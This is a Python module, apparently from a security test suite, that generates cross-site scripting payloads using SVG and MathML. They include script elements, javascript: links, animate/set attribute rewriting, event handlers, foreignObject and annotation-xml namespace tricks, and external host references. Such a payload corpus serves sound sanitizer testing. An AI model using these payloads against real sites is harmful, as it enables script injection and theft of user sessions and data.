"""SVG and MathML: scripts, animated addresses and links of their own, and who may hold whom."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, HOST, IMAGE, NUMBER, SCRIPT

_MATH = (
    "math mi mn mo ms mtext mrow mfrac msqrt mroot mstyle merror mpadded mphantom mfenced menclose msub msup msubsup "
    "munder mover munderover mmultiscripts mprescripts none mtable mtr mtd mlabeledtr maligngroup malignmark maction "
    "mglyph mspace semantics annotation annotation-xml mstack mlongdiv msgroup msrow mscarries msline"
).split()
_SVG = (
    "a altGlyph animate animateMotion animateTransform audio canvas circle clipPath cursor defs desc discard ellipse "
    "feBlend feImage filter font foreignObject g glyph handler hkern iframe image line linearGradient listener marker "
    "mask metadata missing-glyph mpath path pattern polygon prefetch radialGradient rect script set solidcolor stop "
    "style svg switch symbol tbreak text textArea textPath title tref tspan unknown use video view vkern"
).split()
_ANIMATED = ("href", "xlink:href", "onload", "onclick", "style", "fill", "src", "action", "values", "class")
_ANIMATIONS = (
    "<set attributeName=@ to=javascript:{0}>",
    "<animate attributeName=@ values=javascript:{0}>",
    "<animate attributeName=@ from=javascript:{0} to=x dur=1s>",
)
_ONES = (
    f"<svg>{SCRIPT}</svg>",
    f"<svg><script>&#112;wn({NUMBER})</script></svg>",
    f"<svg><script>/*</script>{IMAGE}*/",
    f"<svg><script/>{IMAGE}</svg>",
    f"<svg><script><![CDATA[{CALL}]]></script></svg>",
    f"<svg><script xlink:href=data:,{CALL} /></svg>",
    f"<svg><script href=data:,{CALL}></script></svg>",
    f"<svg><script href={HOST} /></svg>",
    f"<svg><style>@import '{HOST}';</style></svg>",
    f"<svg><style>&#64;import '{HOST}';</style></svg>",
    f"<svg><image href={HOST}></svg>",
    f"<svg><image xlink:href={HOST}></svg>",
    f"<svg><feImage href={HOST}></svg>",
    f"<svg><use href={HOST}#x></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>#x\"></svg>",
    f"<svg><foreignObject><iframe srcdoc='{SCRIPT}'></foreignObject></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<svg><foreignObject><iframe src=javascript:{CALL}></foreignObject></svg>",
    f"<svg><foreignObject><math><mi xlink:href=javascript:{CALL}>x</mi></math></foreignObject></svg>",
    f"<svg><desc>{IMAGE}</desc></svg>",
    f"<svg><title>{IMAGE}</title></svg>",
    f"<svg><metadata>{IMAGE}</metadata></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{CALL}</handler></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><rect width=99 height=99 /></a></svg>",
    f"<svg><a href=javascript:{CALL}><text y=20>x</text></a></svg>",
    f"<svg><a href='{HOST}' target=_top><text y=20>x</text></a></svg>",
    f"<svg><g fill='url({HOST}#x)'></g></svg>",
    f"<svg><g filter='url({HOST}#x)'></g></svg>",
    f"<svg><g style='background:url({HOST})'></g></svg>",
    f"<svg onload={CALL} xmlns='http://www.w3.org/2000/svg'>",
    f"<svg viewBox='0 0 1 1' onclick={CALL}><rect width=1 height=1></svg>",
    f"<SVG ONLOAD={CALL}>",
    f"<svg/onload={CALL}><svg/onload={CALL}>",
    f"<svg><svg onload={CALL}></svg></svg>",
    f"<svg><p>{SCRIPT}</svg>",
    f"<svg><br>{IMAGE}</svg>",
    f"<svg><font color=x>{IMAGE}</font></svg>",
    f"<svg><font x>{IMAGE}</font></svg>",
    f"<svg></p>{IMAGE}</svg>",
    f"<svg></br>{IMAGE}</svg>",
    f"<svg><switch><g onclick={CALL} /></switch></svg>",
    f"<math>{SCRIPT}</math>",
    f"<math><script>{CALL}</script></math>",
    f"<math><mi>{SCRIPT}</mi></math>",
    f"<math><mi>{IMAGE}</mi></math>",
    f"<math><mtext>{IMAGE}</mtext></math>",
    f"<math><ms><a href=javascript:{CALL}>x</a></ms></math>",
    f"<math><annotation-xml>{IMAGE}</annotation-xml></math>",
    f"<math><annotation-xml encoding=text/html>{IMAGE}</annotation-xml></math>",
    f"<math><annotation-xml encoding='TEXT/HTML'>{IMAGE}</annotation-xml></math>",
    f"<math><annotation-xml encoding='text&#47;html'>{IMAGE}</annotation-xml></math>",
    f"<math><annotation-xml encoding=application/xhtml+xml><svg onload={CALL}></annotation-xml></math>",
    f"<math><annotation-xml encoding=image/svg+xml><svg onload={CALL}></annotation-xml></math>",
    f"<math><semantics><mi>x</mi><annotation-xml encoding=text/html>{SCRIPT}</annotation-xml></semantics></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f"<math><maction actiontype='statusline#{HOST}'>x</maction></math>",
    f"<math><mglyph src={HOST}></math>",
    f"<math><mstyle background='url({HOST})'>x</mstyle></math>",
    f"<math><mi mathbackground='url({HOST})'>x</mi></math>",
    f"<math><mi style='background:url({HOST})'>x</mi></math>",
    f"<math><mi class=x id=body mathvariant={CALL}>x</mi></math>",
    f"<math><mspace width='{CALL}' linebreak=x></math>",
    f"<math altimg={HOST} alttext='{IMAGE}'><mi>x</mi></math>",
    f"<math display='block\" onclick=\"{CALL}'><mi>x</mi></math>",
    f"<math><p>{IMAGE}</p></math>",
    f"<math><table><td>{IMAGE}</table></math>",
    f"<math></p>{IMAGE}</math>",
    f"<math><mtable><mtr><mtd>{IMAGE}</mtd></mtr></mtable></math>",
    f"<math><mn><math><mn>{IMAGE}</mn></math></mn></math>",
)


def payloads() -> Iterator[str]:
    """Yield each foreign element with an address and a handler, each animation, and the known tricks."""
    yield from (f"<math><{tag} href=javascript:{CALL}>x</{tag}></math>" for tag in _MATH)
    yield from (f"<math><{tag} xlink:href=javascript:{CALL} onclick={CALL}>{IMAGE}</{tag}></math>" for tag in _MATH)
    yield from (f"<svg><{tag} onload={CALL} onbegin={CALL} dur=1s />x</svg>" for tag in _SVG)
    yield from (f"<svg><{tag} href=javascript:{CALL} xlink:href={HOST}>{IMAGE}</{tag}></svg>" for tag in _SVG)
    for name in _ANIMATED:
        for each in _ANIMATIONS:
            yield f"<svg><a><text y=9>x</text>{each.replace('@', name).format(CALL)}</a></svg>"
    yield from _ONES
